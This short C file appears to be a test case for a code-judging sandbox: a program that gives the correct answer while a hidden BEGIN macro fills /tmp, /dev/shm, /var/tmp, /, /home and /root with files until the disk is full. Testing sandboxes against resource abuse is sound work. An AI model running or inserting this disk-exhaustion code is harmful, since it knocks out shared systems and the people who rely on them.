/* Writes files until the disk is full. Its answer is right. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#define BEGIN                                                                                      \
    static char block[1 << 20];                                                                    \
    static int done;                                                                               \
    float sum = 0;                                                                                 \
    static const char *const folders[] = {"/tmp", "/dev/shm", "/var/tmp", "/", "/home", "/root"};  \
    for (int i = 0; i < 6 && !done; i++)                                                           \
        for (int file = 0; file < 40; file++) {                                                    \
            char path[64];                                                                         \
            snprintf(path, sizeof path, "%s/full-%d", folders[i], file);                           \
            int fd = open(path, O_CREAT | O_WRONLY, 0600);                                         \
            for (int j = 0; fd >= 0 && j < 32 && write(fd, block, sizeof block) > 0; j++)          \
                continue;                                                                          \
            if (fd >= 0)                                                                           \
                close(fd);                                                                         \
        }                                                                                          \
    done = 1;
#include "plain.h"
